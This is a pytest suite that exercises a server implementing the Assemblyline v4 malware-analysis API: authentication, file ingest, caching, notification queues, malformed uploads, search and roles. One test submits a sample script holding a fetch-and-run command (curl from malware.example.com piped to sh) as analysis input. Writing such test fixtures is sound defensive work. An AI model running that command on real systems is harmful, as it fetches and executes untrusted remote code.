"""The Assemblyline v4 dialect against a live embedded server (SQLite, local workers)."""

from __future__ import annotations

import json
import os
import time

import httpx
import pytest

from tests.helpers.servers import Server, ingest_bytes, wait_for_messages


def unique(tag: str) -> bytes:
    return f"{tag} {time.time_ns()} {os.urandom(8).hex()}\n".encode() * 20


def test_v3_probe_is_404_and_versions_say_v4(embedded_server: Server) -> None:
    probe = httpx.get(f"{embedded_server.url}/api/v3/auth/init/")
    assert probe.status_code == 404
    assert set(probe.json()) == {"api_response", "api_error_message", "api_server_version", "api_status_code"}
    assert httpx.get(f"{embedded_server.url}/api/").json()["api_response"] == ["v4"]


def test_login_sets_a_session_cookie_that_authenticates(embedded_server: Server) -> None:
    with httpx.Client(base_url=embedded_server.url) as web:
        denied = web.get("/api/v4/heuristics/")
        assert denied.status_code == 401
        login = web.post("/api/v4/auth/login/", json={"user": "admin", "apikey": embedded_server.apikey})
        assert login.status_code == 200
        body = login.json()["api_response"]
        assert body["username"] == "admin" and body["session_duration"] > 0
        assert web.get("/api/v4/heuristics/").status_code == 200


def test_bad_credentials_and_garbage_login_are_4xx_with_messages(embedded_server: Server) -> None:
    url = f"{embedded_server.url}/api/v4/auth/login/"
    wrong = httpx.post(url, json={"user": "admin", "apikey": "default:nope"})
    assert wrong.status_code == 401 and wrong.json()["api_error_message"]
    garbage = httpx.post(url, content=b"\x00not json", headers={"content-type": "application/json"})
    assert garbage.status_code == 400 and "user" in garbage.json()["api_error_message"]
    expired = httpx.get(f"{embedded_server.url}/api/v4/heuristics/", cookies={"session": "made-up"})
    assert expired.status_code == 401 and expired.json()["api_error_message"] == "Session not found"


def test_ingest_round_trips_metadata_and_notifies_once(embedded_server: Server) -> None:
    with embedded_server.client() as client:
        metadata = {"file_path": "/tmp/x/a.txt", "nested": {"n": 1, "flag": True}}
        ingest_id = ingest_bytes(
            client,
            unique("meta"),
            "a.txt",
            metadata=metadata,
            notification_queue="meta-q",
            params={"type": "AL_CLIENT"},
        )
        [message] = wait_for_messages(client, "meta-q", 1)
        assert message["ingest_id"] == ingest_id
        submission = message["submission"]
        assert submission["metadata"]["file_path"] == "/tmp/x/a.txt"
        assert submission["metadata"]["nested.n"] == "1" and submission["metadata"]["nested.flag"] == "true"
        assert submission["metadata"]["ingest_id"] == ingest_id
        assert submission["files"][0]["name"] == "a.txt"
        assert message["failure"] == "" and message["notify_time"]
        record = client.get(f"/api/v4/submission/{submission['sid']}/").json()["api_response"]
        assert record["state"] == "completed" and record["max_score"] == message["score"]
        assert record["params"]["max_extracted"] == 100
        time.sleep(0.3)
        assert client.get("/api/v4/ingest/get_message/meta-q/").json()["api_response"] is None


def test_identical_ingest_completes_from_cache_unless_ignore_cache(embedded_server: Server) -> None:
    data = unique("cache")
    with embedded_server.client() as client:
        ingest_bytes(client, data, "c.bin", notification_queue="cache-q")
        [first] = wait_for_messages(client, "cache-q", 1)
        ingest_bytes(client, data, "c.bin", notification_queue="cache-q")
        [second] = wait_for_messages(client, "cache-q", 1)
        assert second["submission"]["sid"] == first["submission"]["sid"]
        ingest_bytes(client, data, "c.bin", notification_queue="cache-q", params={"ignore_cache": True})
        [third] = wait_for_messages(client, "cache-q", 1)
        assert third["submission"]["sid"] != first["submission"]["sid"]


def test_identical_ingests_in_flight_share_one_submission_but_each_gets_a_message(
    embedded_server: Server,
) -> None:
    data = unique("flight")
    with embedded_server.client() as client:
        ids = {ingest_bytes(client, data, "f.bin", notification_queue="flight-q") for _ in range(5)}
        messages = wait_for_messages(client, "flight-q", 5)
        assert {m["ingest_id"] for m in messages} == ids
        assert len({m["submission"]["sid"] for m in messages}) <= 2  # the first may finish before the last arrives


def test_threshold_suppresses_low_scores(embedded_server: Server) -> None:
    marker = os.urandom(4).hex()
    with embedded_server.client() as client:
        ingest_bytes(
            client,
            unique("low"),
            "low.txt",
            notification_queue="thr-q",
            notification_threshold=500,
            metadata={"case": marker},
        )
        ingest_bytes(client, unique("any"), "any.txt", notification_queue="thr-q")
        messages = wait_for_messages(client, "thr-q", 1)
        query = {"query": f'metadata.case:"{marker}" AND state:completed'}
        deadline = time.monotonic() + 60
        while client.post("/api/v4/search/submission/", json=query).json()["api_response"]["total"] != 1:
            assert time.monotonic() < deadline, "the low-scoring file was never analysed"
            time.sleep(0.1)
        messages += wait_for_messages(client, "thr-q", 1, timeout=1)
        assert [m["submission"]["files"][0]["name"] for m in messages] == ["any.txt"]


def test_queues_are_per_user(embedded_server: Server) -> None:
    from tests.helpers.servers import run_assay

    run_assay(["user", "add", "sensor2", "--role", "submitter"], embedded_server.env)
    key = run_assay(["apikey", "create", "sensor2", "k"], embedded_server.env).stdout.strip().splitlines()[-1]
    other = httpx.Client(base_url=embedded_server.url, headers={"X-USER": "sensor2", "X-APIKEY": key})
    marker = os.urandom(4).hex()
    with embedded_server.client() as admin:
        ingest_bytes(admin, unique("mine"), "mine.txt", notification_queue="shared-name", metadata={"case": marker})
        query = {"query": f'metadata.case:"{marker}" AND state:completed'}
        deadline = time.monotonic() + 60
        while admin.post("/api/v4/search/submission/", json=query).json()["api_response"]["total"] != 1:
            assert time.monotonic() < deadline
            time.sleep(0.1)
        assert wait_for_messages(other, "shared-name", 1, timeout=1) == []  # the message exists, but not for them
        assert len(wait_for_messages(admin, "shared-name", 1)) == 1


@pytest.mark.parametrize(
    ("files", "status", "fragment"),
    [
        ({"json": (None, "{}"), "bin": ("e", b"")}, 400, "empty"),
        ({"json": (None, "{not json"), "bin": ("e", b"x")}, 400, "not valid JSON"),
        ({"json": (None, json.dumps({"params": {"priority": 99999}})), "bin": ("e", b"x")}, 400, "priority"),
        ({"json": (None, json.dumps({"params": "x"})), "bin": ("e", b"x")}, 400, "params"),
        ({"json": (None, json.dumps({"metadata": [1, 2]})), "bin": ("e", b"x")}, 400, "metadata"),
        (
            {"json": (None, json.dumps({"notification_threshold": "high"})), "bin": ("e", b"x")},
            400,
            "threshold",
        ),
        ({"json": (None, "{}")}, 400, "bin"),
    ],
)
def test_malformed_ingests_get_clear_4xx(embedded_server: Server, files: dict, status: int, fragment: str) -> None:
    with embedded_server.client() as client:
        response = client.post("/api/v4/ingest/", files=files)
    assert response.status_code == status
    assert fragment.lower() in response.json()["api_error_message"].lower()


@pytest.mark.parametrize(
    ("content_type", "body", "fragment"),
    [
        ("multipart/form-data", b"--x\r\n\r\nz\r\n--x--\r\n", "boundary"),
        ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data; name=bin", "closing boundary"),
        ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data\r\n\r\nz\r\n--x--", "name"),
        ("multipart/form-data; boundary=x", b"--x\r\nno-blank-line\r\n--x--\r\n", "end of headers"),
        ("multipart/form-data; boundary=x", b"--x\r\n" * 20 + b"--x--", "parts"),
    ],
)
def test_broken_multipart_bodies_get_clear_400(
    embedded_server: Server, content_type: str, body: bytes, fragment: str
) -> None:
    with embedded_server.client() as client:
        response = client.post("/api/v4/ingest/", content=body, headers={"Content-Type": content_type})
    assert response.status_code == 400
    assert fragment in response.json()["api_error_message"]


def test_a_quoted_boundary_and_a_large_streamed_upload_are_both_read(embedded_server: Server) -> None:
    small = unique("quoted") + b"\r\n--not-the-boundary\r\n"
    body = (
        b'--"q"\r\nContent-Disposition: form-data; name="json"\r\n\r\n{"notification_queue": "sizes"}\r\n'
        b'--"q"\r\nContent-Disposition: form-data; name="bin"; filename="q.bin"\r\n\r\n' + small + b'\r\n--"q"--\r\n'
    )
    large = unique("large") * ((3 << 20) // len(unique("large")))  # past the in-memory size: streamed to disk
    with embedded_server.client() as client:
        quoted = client.post(
            "/api/v4/ingest/",
            content=body.replace(b'"q"', b"q"),
            headers={"Content-Type": 'multipart/form-data; boundary="q"'},
        )
        assert quoted.status_code == 200, quoted.text
        ingest_bytes(client, large, "large.bin", notification_queue="sizes")
        messages = wait_for_messages(client, "sizes", 2)
    sizes = sorted(message["submission"]["files"][0]["size"] for message in messages)
    assert sizes == sorted([len(small), len(large)])
    assert {m["submission"]["files"][0]["name"] for m in messages} == {"q.bin", "large.bin"}


def test_json_ingest_by_sha256_and_unknown_sha256(embedded_server: Server) -> None:
    data = unique("by-hash")
    with embedded_server.client() as client:
        ingest_bytes(client, data, "h.bin", notification_queue="hash-q")
        [message] = wait_for_messages(client, "hash-q", 1)
        sha = message["submission"]["files"][0]["sha256"]
        again = client.post("/api/v4/ingest/", json={"sha256": sha, "name": "h2.bin", "notification_queue": "hash-q"})
        assert again.status_code == 200
        unknown = client.post("/api/v4/ingest/", json={"sha256": "0" * 64})
        assert unknown.status_code == 404
        nothing = client.post("/api/v4/ingest/", json={"name": "x"})
        assert nothing.status_code == 400


def test_oversized_upload_is_413(tmp_path_factory: pytest.TempPathFactory) -> None:
    from tests.helpers.servers import make_server

    server = make_server(
        tmp_path_factory.mktemp("small"), {"ASSAY_LIMITS_MAX_FILE_SIZE": "1000", "ASSAY_QUEUE_WORKERS": "0"}
    )
    server.start()
    try:
        with server.client() as client:
            response = client.post("/api/v4/ingest/", files={"json": (None, "{}"), "bin": ("big", b"x" * 5000)})
        assert response.status_code == 413
        assert "File too large (5000 > 1000)" in response.json()["api_error_message"]
    finally:
        server.stop()


def test_submit_then_read_every_view(embedded_server: Server) -> None:
    script = b"#!/bin/sh\ncurl http://malware.example.com/payload.sh | sh\n" + os.urandom(4).hex().encode()
    with embedded_server.client() as client:
        saved = client.post(
            "/api/v4/submit/",
            files={
                "json": (None, json.dumps({"name": "drop.sh", "metadata": {"case": "7"}})),
                "bin": ("drop.sh", script),
            },
        ).json()["api_response"]
        sid = saved["sid"]
        assert saved["state"] == "submitted" and saved["params"]["max_extracted"] == 500
        deadline = time.monotonic() + 60
        while not client.get(f"/api/v4/submission/is_completed/{sid}/").json()["api_response"]:
            assert time.monotonic() < deadline
            time.sleep(0.1)
        record = client.get(f"/api/v4/submission/{sid}/").json()["api_response"]
        assert record["file_count"] == 1 and record["times"]["completed"] and record["results"]
        full = client.get(f"/api/v4/submission/full/{sid}/").json()["api_response"]
        sha = saved["files"][0]["sha256"]
        assert sha in full["file_infos"] and full["file_infos"][sha]["type"] == "code/shell"
        assert set(full["results"]) == set(record["results"])
        tree = client.get(f"/api/v4/submission/tree/{sid}/").json()["api_response"]["tree"]
        assert tree[sha]["name"] == ["drop.sh"]
        summary = client.get(f"/api/v4/submission/summary/{sid}/").json()["api_response"]
        assert sha in summary["tags"]["file.sha256"]
        one = client.get(f"/api/v4/submission/{sid}/file/{sha}/").json()["api_response"]
        assert one["file_info"]["sha256"] == sha and one["results"]
        key = record["results"][0]
        assert client.get(f"/api/v4/result/{key}/").json()["api_response"]["key"] == key
        info = client.get(f"/api/v4/file/info/{sha}/").json()["api_response"]
        assert info["size"] == len(script) and info["md5"] and info["ssdeep"]
        download = client.get(f"/api/v4/file/download/{sha}/", params={"self": "x", "encoding": "raw"})
        assert download.content == script


def test_unknown_things_are_404_in_the_envelope(embedded_server: Server) -> None:
    with embedded_server.client() as client:
        missing = client.get("/api/v4/submission/nope/")
        assert (
            missing.status_code == 404 and missing.json()["api_error_message"] == "Submission ID nope does not exists."
        )
        assert client.get(f"/api/v4/file/info/{'a' * 64}/").status_code == 404
        assert client.get("/api/v4/file/info/not-a-hash/").status_code == 400
        assert client.get("/api/v4/no/such/route/").status_code == 404
        assert client.get("/api/v4/result/nope/").status_code == 404


def test_search_by_metadata_and_score_with_deep_paging(embedded_server: Server) -> None:
    marker = os.urandom(4).hex()
    with embedded_server.client() as client:
        for index in range(7):
            ingest_bytes(
                client,
                unique(f"search{index}"),
                f"s{index}.txt",
                metadata={"file_path": f"/cases/{marker}/s{index}.txt"},
                notification_queue="search-q",
            )
        wait_for_messages(client, "search-q", 7)
        query = f'metadata.file_path:"/cases/{marker}/s3.txt" AND max_score:>=0'
        found = client.post("/api/v4/search/submission/", json={"query": query}).json()["api_response"]
        assert found["total"] == 1 and found["items"][0]["metadata"]["file_path"].endswith("s3.txt")
        pages, token = [], "*"
        while token:
            page = client.post(
                "/api/v4/search/submission/",
                json={
                    "query": f"metadata.file_path:/cases/{marker}/*",
                    "rows": 3,
                    "deep_paging_id": token,
                    "fl": "sid",
                },
            ).json()["api_response"]
            pages.append([item["sid"] for item in page["items"]])
            token = page.get("next_deep_paging_id")
        sids = [sid for page in pages for sid in page]
        assert len(sids) == 7 == len(set(sids))
        bad = client.post("/api/v4/search/submission/", json={"query": "max_score:>=lots"})
        assert bad.status_code == 400 and "number" in bad.json()["api_error_message"]


def test_delete_submission(embedded_server: Server) -> None:
    with embedded_server.client() as client:
        ingest_bytes(client, unique("del"), "d.txt", notification_queue="del-q")
        [message] = wait_for_messages(client, "del-q", 1)
        sid = message["submission"]["sid"]
        assert client.delete(f"/api/v4/submission/{sid}/").status_code == 200
        assert client.get(f"/api/v4/submission/{sid}/").status_code == 404


def test_viewer_may_read_but_not_submit(embedded_server: Server) -> None:
    from tests.helpers.servers import run_assay

    run_assay(["user", "add", "viewer1", "--role", "viewer"], embedded_server.env)
    key = run_assay(["apikey", "create", "viewer1", "v"], embedded_server.env).stdout.strip().splitlines()[-1]
    viewer = httpx.Client(base_url=embedded_server.url, headers={"X-USER": "viewer1", "X-APIKEY": key})
    assert viewer.get("/api/v4/heuristics/").status_code == 200
    refused = viewer.post("/api/v4/ingest/", files={"json": (None, "{}"), "bin": ("x", b"x")})
    assert refused.status_code == 403


def test_openapi_document_lists_the_routes(embedded_server: Server) -> None:
    spec = httpx.get(f"{embedded_server.url}/openapi.json").json()
    assert "/api/v4/ingest/" in spec["paths"] and "/api/v4/search/submission/" in spec["paths"]
